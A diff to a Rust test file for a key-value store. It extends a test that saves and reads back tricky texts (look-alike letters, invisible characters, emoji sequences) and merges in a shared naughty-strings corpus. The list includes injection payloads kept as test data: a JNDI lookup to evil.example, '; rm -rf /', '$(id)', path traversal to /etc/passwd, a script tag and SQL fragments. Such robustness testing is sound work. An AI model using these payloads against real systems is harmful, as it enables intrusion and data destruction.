@@ -1,6 +1,6 @@
 //! Any text is an id, a path, a value and a name: lists of texts that break things elsewhere.
 
-use std::{env, fs, path::Path};
+use std::{env, fs, path::PathBuf};
 
 use kvs::{From, Index, IndexKey, Record, Store};
 use serde::{Deserialize, Serialize};
@@ -82,6 +82,78 @@ async fn texts_that_break_things_elsewhere_are_kept() {
         "e\u{301}",
         "\u{e9}",
         "\u{456}\u{457}",
+        // Letters that are one, and letters that look like one.
+        "\u{430}\u{440}\u{440}le",
+        "\u{ff21}\u{ff22}",
+        "\u{131}\u{130}i\u{307}",
+        "stra\u{df}e",
+        "STRASSE",
+        "\u{1e9e}",
+        "\u{3a3}\u{3c3}\u{3c2}",
+        "\u{fb01}",
+        "\u{2126}\u{3a9}",
+        "\u{1100}\u{1161}\u{ac00}",
+        "\u{5d0}\u{5b8}\u{627}\u{64b}",
+        "\u{e01}\u{e33}\u{915}\u{94d}\u{937}",
+        "\u{4e2d}\u{6587}\u{20000}",
+        // What is not seen.
+        "ann\u{200b}",
+        "ann\u{200d}",
+        "\u{ad}",
+        "\u{2060}\u{180e}",
+        "\u{2066}a\u{2069}",
+        "\u{e0001}\u{e0041}",
+        "\u{a0}\u{1680}\u{2003}\u{3000}",
+        "\t\u{b}\u{c}\u{85}\u{2028}\u{2029}",
+        "\u{7f}\u{80}\u{9f}",
+        "\u{fdd0}\u{ffff}\u{e000}",
+        // What is drawn of several.
+        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
+        "\u{1f44d}\u{1f3ff}",
+        "\u{1f1fa}\u{1f1e6}",
+        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
+        "\u{660}\u{661}\u{b2}\u{2167}",
+        // What means something to somebody.
+        "\r\nSet-Cookie: a=b",
+        "\n",
+        "a\tb",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}}",
+        "%s%n%x",
+        "%00",
+        "$(id)",
+        "`id`",
+        "; rm -rf /",
+        "--help",
+        "CON",
+        "aux.txt",
+        "C:\\",
+        "file:///etc/passwd",
+        "../../../../etc/passwd",
+        "~",
+        ".",
+        "*",
+        "?",
+        "#",
+        "&amp;",
+        "<script>alert(1)</script>",
+        "1; select 1",
+        "\" or \"\"=\"",
+        "()",
+        "__proto__",
+        "constructor",
+        "undefined",
+        "nil",
+        "None",
+        "NaN",
+        "Infinity",
+        "-0",
+        "0x10",
+        "1_000",
+        "9223372036854775808",
+        "18446744073709551616",
+        "1/0",
+        "2026-02-30",
         "\r\n",
         "NULL",
         "true",
@@ -95,22 +167,23 @@ async fn texts_that_break_things_elsewhere_are_kept() {
         &long,
         &"\0".repeat(1365),
     ];
-    each(async |store| keep(store, texts.map(str::to_owned).to_vec()).await).await;
-}
-
-#[tokio::test]
-async fn the_shared_corpus_of_texts_is_kept() {
-    let Some(folder) = env::var_os("N2O_SHARED") else { return };
-    let path = Path::new(&folder).join("corpora/strings/naughty.jsonl");
-    let lines = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
-    let texts: Vec<String> = lines
-        .lines()
-        .map(|line| {
+    let mut texts = texts.map(str::to_owned).to_vec();
+    if let Some(path) = shared("corpora/strings/naughty.jsonl") {
+        let shared = fs::read_to_string(&path).unwrap();
+        let shared = shared.lines().map(|line| {
             let line: serde_json::Value = serde_json::from_str(line).unwrap();
             line["s"].as_str().unwrap().to_owned()
-        })
-        .filter(|text| text.len() <= 4096)
-        .collect();
-    assert!(texts.len() > 100, "{} has {} texts", path.display(), texts.len());
+        });
+        let own = texts.len();
+        texts.extend(shared.filter(|text| text.len() <= 4096));
+        assert!(texts.len() > own + 100, "{} has {} texts", path.display(), texts.len() - own);
+    }
     each(async |store| keep(store, texts.clone()).await).await;
+}
+
+/// A file of the shared test data, when it is named; a named one that is not there fails.
+fn shared(path: &str) -> Option<PathBuf> {
+    let path = PathBuf::from(env::var_os("N2O_SHARED")?).join(path);
+    assert!(path.exists(), "{} is named by N2O_SHARED and not there", path.display());
+    Some(path)
 }
